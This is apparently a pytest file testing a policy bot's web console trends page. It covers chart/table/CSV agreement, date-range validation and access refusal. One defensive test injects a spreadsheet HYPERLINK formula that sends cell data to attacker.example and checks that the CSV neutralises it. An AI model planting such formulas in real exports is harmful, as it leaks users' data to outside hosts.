"""The console's trends page over a real `policybot serve` on 127.0.0.1, signed in through the
one-time link: the charts and tables show the known counts, the CSV has the same numbers, and
someone off the policy team (or with no session) gets none of them."""

from __future__ import annotations

import csv
import io
import re
import time
from dataclasses import replace

import httpx
import pytest

from bot.config import Settings
from tests.reliability import percentiles, record
from tests.trend_data import SINCE, UNTIL, WEEKS, known_weeks
from tests.web import console_server, sign_in

REVIEWER = "slack:UREVIEW"
KIND_ATTRIBUTES = ("data-from-policy", "data-reviewed", "data-uncertain", "data-not-covered")
RANGE = {"from": SINCE, "to": UNTIL}


def attributes(html: str, element_id: str) -> dict[str, str]:
    """The attributes of the element with `element_id` (the page's stable ids)."""
    found = re.search(rf'<[a-z]+ [^>]*id="{re.escape(element_id)}"[^>]*>', html)
    assert found is not None, f"no element #{element_id}"
    return dict(re.findall(r'([a-z-]+)="([^"]*)"', found.group(0)))


def table_rows(html: str, table_id: str) -> list[list[str]]:
    """The body rows of a table, each cell's text."""
    found = re.search(rf'<table id="{table_id}">(.*?)</table>', html, re.S)
    assert found is not None, f"no table #{table_id}"
    body = found.group(1).split("<tbody>", 1)[1]
    return [
        [
            re.sub(r"<[^>]+>", "", cell).strip()
            for cell in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)
        ]
        for row in re.findall(r"<tr[^>]*>(.*?)</tr>", body, re.S)
    ]


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def console_settings(settings: Settings) -> Settings:
    return replace(settings, slack_policy_team=("UREVIEW",))


async def test_the_page_shows_the_counts_in_chart_and_table_and_the_csv_agrees(
    console_settings: Settings,
) -> None:
    latencies: list[float] = []
    async with console_server(console_settings) as server:
        await known_weeks(server.bot)
        async with sign_in(server, as_=REVIEWER) as client:
            started = time.perf_counter()
            response = await client.get("/console/trends", params=RANGE)
            latencies.append((time.perf_counter() - started) * 1000)
            assert response.status_code == 200
            html = response.text
            downloads = {}
            for chart in ("weekly", "sections", "topics", "feedback"):
                started = time.perf_counter()
                download = await client.get("/console/trends.csv", params={"chart": chart, **RANGE})
                latencies.append((time.perf_counter() - started) * 1000)
                assert download.status_code == 200
                assert download.headers["content-type"].startswith("text/csv")
                assert "attachment" in download.headers["content-disposition"]
                downloads[chart] = csv_rows(download.text)

    assert '<h1 id="trends-heading">Trends</h1>' in html
    svg = attributes(html, "chart-weekly")
    assert svg["role"] == "img" and svg["aria-labelledby"] == "chart-weekly-title chart-weekly-desc"
    assert '<title id="chart-weekly-title">' in html and '<desc id="chart-weekly-desc">' in html
    weekly_table = {row[0]: row for row in table_rows(html, "table-weekly")}
    weekly_csv = {row["week"]: row for row in downloads["weekly"]}
    assert list(weekly_csv) == list(WEEKS)
    for week, counts in WEEKS.items():
        bar = attributes(html, f"chart-weekly-{week}")
        assert tuple(int(bar[name]) for name in KIND_ATTRIBUTES) == counts
        assert int(bar["data-asked"]) == sum(counts)
        # Table: week, starting, the four kinds, asked.
        assert tuple(int(cell) for cell in weekly_table[week][2:6]) == counts
        row = weekly_csv[week]
        kinds = ("answered_from_policy", "reviewed_answer", "uncertain", "not_covered")
        assert tuple(int(row[name]) for name in kinds) == counts
    # The rate: a point per week anyone asked in, none for the empty week.
    assert attributes(html, "chart-rate-2026-W10")["data-rate"] == "0.6667"
    assert weekly_csv["2026-W10"]["answered_rate"] == "0.6667"
    assert 'id="chart-rate-2026-W13"' not in html and weekly_csv["2026-W13"]["answered_rate"] == ""
    # Most cited: 3.3 by two questions, in the chart, the table and the CSV alike.
    top = attributes(html, "chart-sections-1")
    assert (top["data-section"], top["data-count"]) == ("3.3", "2")
    assert table_rows(html, "table-sections")[0][-1] == "2"
    assert (downloads["sections"][0]["section"], downloads["sections"][0]["cited_by"]) == (
        "3.3",
        "2",
    )
    # The cafeteria came back in two weeks.
    (topic,) = table_rows(html, "table-topics")
    assert "cafeteria" in topic[1] and topic[4:6] == ["2", "2"]
    (topic_csv,) = downloads["topics"]
    assert (topic_csv["questions"], topic_csv["weeks"]) == ("2", "2")
    feedback = {(r["section"], r["helpful"], r["not_helpful"]) for r in downloads["feedback"]}
    assert ("3.3", "1", "0") in feedback and ("", "1", "0") in feedback
    record(
        "Console trends: chart, table and CSV agree",
        "pytest tests/test_web_trends.py -k agrees",
        weeks=len(WEEKS),
        questions=sum(sum(c) for c in WEEKS.values()),
        requests=len(latencies),
        failures=0,
        **percentiles(latencies),
    )


async def test_a_spreadsheet_formula_in_a_topic_is_neutralised_in_the_csv(
    console_settings: Settings,
) -> None:
    async with console_server(console_settings) as server:
        await known_weeks(server.bot)
        (group,) = [g for g in server.bot.review.groups(None) if "cafeteria" in g.sample]
        formula = '=HYPERLINK("https://attacker.example/?"&A1,"click")'
        server.bot.storage.update_group(group.id, label=formula)
        async with sign_in(server, as_=REVIEWER) as client:
            page = await client.get("/console/trends", params=RANGE)
            download = await client.get("/console/trends.csv", params={"chart": "topics", **RANGE})
    (row,) = csv_rows(download.text)
    assert row["sample_question"] == "'" + formula
    # On the page it is text, escaped, never markup.
    assert "=HYPERLINK(&#34;https://attacker.example/?&#34;&amp;A1" in page.text
    record(
        "Console trends: formula in a question, CSV",
        "pytest tests/test_web_trends.py -k formula",
        cells_checked=1,
        neutralised=1,
        failures=0,
    )


async def test_a_bad_range_is_explained_and_what_was_typed_kept(
    console_settings: Settings,
) -> None:
    async with console_server(console_settings) as server, sign_in(server, as_=REVIEWER) as client:
        typed = await client.get("/console/trends", params={"from": "31/03/2026", "to": ""})
        reversed_ = await client.get(
            "/console/trends", params={"from": "2026-03-10", "to": "2026-03-01"}
        )
        too_long = await client.get(
            "/console/trends", params={"from": "2020-01-01", "to": "2026-01-01"}
        )
        csv_bad = await client.get("/console/trends.csv", params={"chart": "everything"})
    assert typed.status_code == 400 and "write it like 2026-03-31" in typed.text
    assert 'value="31/03/2026"' in typed.text and 'aria-invalid="true"' in typed.text
    assert reversed_.status_code == 400 and "swap the two dates" in reversed_.text
    assert too_long.status_code == 400 and "at most 104 weeks" in too_long.text
    assert csv_bad.status_code == 400 and "weekly, sections, topics, feedback" in csv_bad.text
    record(
        "Console trends: unreadable ranges",
        "pytest tests/test_web_trends.py -k bad_range",
        inputs=4,
        refused_with_reason=4,
        failures=0,
    )


async def test_no_session_or_someone_off_the_policy_team_sees_no_trends(
    console_settings: Settings, caplog: pytest.LogCaptureFixture
) -> None:
    async with console_server(console_settings) as server:
        await known_weeks(server.bot)
        async with httpx.AsyncClient(base_url=server.base_url, timeout=30) as anonymous:
            page = await anonymous.get("/console/trends", params=RANGE)
            download = await anonymous.get(
                "/console/trends.csv", params={"chart": "weekly", **RANGE}
            )
        async with sign_in(server, as_=REVIEWER) as client:
            # Taken off the policy team while signed in: refused from the next request on.
            server.bot.settings = replace(server.bot.settings, slack_policy_team=())
            with caplog.at_level("WARNING", logger="policybot.security"):
                after = await client.get("/console/trends", params=RANGE)
                after_csv = await client.get(
                    "/console/trends.csv", params={"chart": "weekly", **RANGE}
                )
    assert page.status_code == 303 and page.headers["location"] == "/console/sign-in"
    assert download.status_code == 303 and "week" not in download.text
    assert after.status_code == 403 and "chart-weekly" not in after.text
    assert after_csv.status_code in (303, 403) and "answered_from_policy" not in after_csv.text
    security = [r.getMessage() for r in caplog.records if r.name == "policybot.security"]
    assert any("UREVIEW" in line for line in security)
    record(
        "Console trends: no session, or off the policy team",
        "pytest tests/test_web_trends.py -k off_the_policy_team",
        requests=4,
        refused=4,
        logged=len(security),
        failures=0,
    )
